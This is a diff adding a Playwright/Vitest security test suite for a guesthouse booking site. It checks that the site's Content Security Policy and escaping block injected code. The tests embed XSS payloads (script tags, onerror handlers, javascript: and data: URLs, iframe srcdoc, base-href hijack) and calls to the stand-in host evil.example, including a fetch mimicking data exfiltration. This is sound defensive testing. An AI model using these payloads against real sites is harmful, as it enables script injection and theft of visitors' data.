@@ -1,0 +1,232 @@
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DESKTOP, launchBrowser, newVisitor, signIn } from './support';
+
+// What got in by whatever way must not run: these tests put it there themselves.
+
+let browser: Browser;
+beforeAll(async () => {
+  browser = await launchBrowser();
+});
+afterAll(async () => browser.close());
+
+declare global {
+  interface Window {
+    /** Set by whatever code of an attacker ran. */
+    hasRun?: string;
+  }
+}
+
+const hasRun = async (page: Page) => page.evaluate(() => window.hasRun ?? null);
+
+describe('code that got into a page', () => {
+  it.each([
+    ['a script', '<script>window.hasRun = "script"</script>', 'script-src-elem'],
+    ['a module', '<script type="module">window.hasRun = "module"</script>', 'script-src-elem'],
+    [
+      "somebody else's script",
+      '<script src="https://evil.example/x.js"></script>',
+      'script-src-elem',
+    ],
+    [
+      'a script in an address',
+      '<script src="data:text/javascript,hasRun=1"></script>',
+      'script-src-elem',
+    ],
+    ['a handler', '<img src="/nada.png" onerror="window.hasRun = 1">', 'script-src-attr'],
+    ['a style sheet', '<style>body { display: none }</style>', 'style-src-elem'],
+    ['a style', '<p style="position: fixed; inset: 0">Pague aqui</p>', 'style-src-attr'],
+    ['a frame', '<iframe srcdoc="<script>parent.hasRun = 1</script>"></iframe>', 'script-src-elem'],
+    ["somebody else's frame", '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
+    ['another base', '<base href="https://evil.example/">', 'base-uri'],
+    ['a plug-in', '<object data="https://evil.example/x.swf"></object>', 'object-src'],
+  ])('%s is refused in the HTML', async (_name, markup, directive) => {
+    const guest = await newVisitor(browser, DESKTOP);
+    const { page, problems } = guest;
+    await page.route('**/sobre', async (route) => {
+      const answer = await route.fetch();
+      const body = (await answer.text()).replace('<body>', `<body>${markup}`);
+      await route.fulfill({ response: answer, body });
+    });
+    await page.goto('/sobre');
+    await expect.poll(() => problems.join('\n')).toContain(`Refused by ${directive}`);
+    expect(await hasRun(page)).toBeNull();
+    expect(await page.locator('h1').isVisible()).toBe(true);
+    expect(await page.evaluate(() => document.baseURI)).not.toContain('evil.example');
+    await guest.context.close();
+  });
+
+  it.each([
+    [
+      'markup made of text',
+      () => {
+        document.body.innerHTML = '<img src="/nada.png" onerror="window.hasRun = 1">';
+      },
+    ],
+    [
+      'a script made of text',
+      () => {
+        const script = document.createElement('script');
+        script.textContent = 'window.hasRun = 1';
+        document.body.append(script);
+      },
+    ],
+    [
+      "somebody else's script",
+      () => {
+        const script = document.createElement('script');
+        script.src = 'https://evil.example/x.js';
+        document.body.append(script);
+      },
+    ],
+    [
+      'a handler',
+      () => {
+        document.body.setAttribute('onclick', 'window.hasRun = 1');
+        document.body.click();
+      },
+    ],
+    [
+      'a link that is code',
+      () => {
+        const link = document.createElement('a');
+        link.href = 'javascript:window.hasRun = 1';
+        document.body.append(link);
+        link.click();
+      },
+    ],
+  ])('%s is refused at run time', async (_name, attack) => {
+    const guest = await newVisitor(browser, DESKTOP);
+    const { page, problems } = guest;
+    await page.goto('/');
+    await page.evaluate(attack).catch(() => {});
+    await expect.poll(() => problems.join('\n')).toMatch(/Refused by (script-src|require-trusted)/);
+    expect(await hasRun(page)).toBeNull();
+    await guest.context.close();
+  });
+
+  it('a form cannot carry what is typed elsewhere', async () => {
+    const guest = await newVisitor(browser, DESKTOP);
+    const { page, problems } = guest;
+    await page.goto('/contacto', { waitUntil: 'networkidle' });
+    await page.evaluate(() => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.submit();
+    });
+    await expect.poll(() => problems.join('\n')).toContain('Refused by form-action');
+    await guest.context.close();
+  });
+
+  it('nobody may ask another backend, nor frame the site', async () => {
+    const guest = await newVisitor(browser, DESKTOP);
+    const { page, problems } = guest;
+    await page.goto('/', { waitUntil: 'networkidle' });
+    await page.evaluate(async () => fetch('https://evil.example/?mail=1').catch(() => {}));
+    await expect.poll(() => problems.join('\n')).toContain('Refused by connect-src');
+
+    const refusals: string[] = [];
+    page.on('requestfailed', (request) => refusals.push(request.failure()?.errorText ?? ''));
+    await page.route('**/moldura', (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<iframe src="/admin/login"></iframe>' }),
+    );
+    await page.goto('/moldura');
+    await expect.poll(() => refusals).toEqual(['net::ERR_BLOCKED_BY_RESPONSE']);
+    await guest.context.close();
+  });
+});
+
+describe('what is stored is shown, and never run', () => {
+  const CODE = 'javascript:window.hasRun=1';
+
+  it('an address of a room that is code is neither a picture nor a link', async () => {
+    const guest = await newVisitor(browser, DESKTOP);
+    const { page, problems } = guest;
+    await page.route('**/rest/v1/rooms*', async (route) => {
+      const answer = await route.fetch();
+      const rooms: unknown = await answer.json();
+      const spoilt = (room: object) => ({
+        ...room,
+        images: [CODE, 'data:image/svg+xml,<svg onload="hasRun=1"/>', '//evil.example/a.png'],
+        booking_url: CODE,
+        airbnb_url: ' data:text/html,<script>opener.hasRun=1</script>',
+      });
+      await route.fulfill({
+        json: Array.isArray(rooms) ? rooms.map(spoilt) : spoilt(Object(rooms)),
+      });
+    });
+    for (const path of ['/quartos', '/quarto/6', '/reservas?guests=2']) {
+      await page.goto(path, { waitUntil: 'networkidle' });
+      const addresses = await page.evaluate(() =>
+        [...document.querySelectorAll('[src], [href]')].map(
+          (element) => element.getAttribute('src') ?? element.getAttribute('href') ?? '',
+        ),
+      );
+      expect(addresses.filter((address) => /^\s*(javascript|data):|evil/i.test(address))).toEqual(
+        [],
+      );
+    }
+    expect(problems).toEqual([]);
+    expect(await hasRun(page)).toBeNull();
+    await guest.context.close();
+  });
+
+  it("a message's markup is text to whoever reads it", async () => {
+    const MARKUP = '<img src=x onerror="window.hasRun=1"><script>window.hasRun=1</script>';
+    const guest = await newVisitor(browser, DESKTOP);
+    await guest.page.goto('/contacto', { waitUntil: 'networkidle' });
+    await guest.page.getByLabel('Nome').fill('<b>Rui</b> Tavares');
+    await guest.page.getByLabel('Email').fill('rui.tavares@example.com');
+    await guest.page.getByLabel('Assunto').selectOption({ label: 'Feedback' });
+    await guest.page.getByLabel('Mensagem').fill(MARKUP);
+    await guest.page.getByRole('button', { name: /Enviar/ }).click();
+    await guest.page.getByText('Mensagem enviada com sucesso!').waitFor();
+
+    const staff = await newVisitor(browser, DESKTOP);
+    await signIn(staff.page);
+    await staff.page.goto('/admin/contact-messages', { waitUntil: 'networkidle' });
+    await staff.page.getByText('<b>Rui</b> Tavares').first().click();
+    await staff.page.getByText(MARKUP).first().waitFor();
+    expect(await hasRun(staff.page)).toBeNull();
+    expect([...guest.problems, ...staff.problems]).toEqual([]);
+    await guest.context.close();
+    await staff.context.close();
+  });
+});
+
+describe('the links of the site', () => {
+  it.each([
+    '/',
+    '/sobre',
+    '/quartos',
+    '/quarto/6',
+    '/informacoes',
+    '/localizacao',
+    '/contacto',
+    '/reservas',
+    '/politica-privacidade',
+  ])('%s leads nowhere unsafe', async (path) => {
+    const guest = await newVisitor(browser, DESKTOP);
+    const { page } = guest;
+    await page.goto(path, { waitUntil: 'networkidle' });
+    const links = await page.evaluate(() =>
+      [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].map((link) => ({
+        href: link.href,
+        protocol: link.protocol,
+        isElsewhere: link.protocol.startsWith('http') && link.origin !== window.location.origin,
+        target: link.target,
+        rel: link.rel.split(' '),
+      })),
+    );
+    expect(links.length).toBeGreaterThan(5);
+    const unsafe = links.filter(
+      ({ protocol, isElsewhere, target, rel }) =>
+        !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol) ||
+        (isElsewhere && target !== '_blank') ||
+        (target !== '' && !(rel.includes('noopener') && rel.includes('noreferrer'))),
+    );
+    expect(unsafe).toEqual([]);
+    await guest.context.close();
+  });
+});
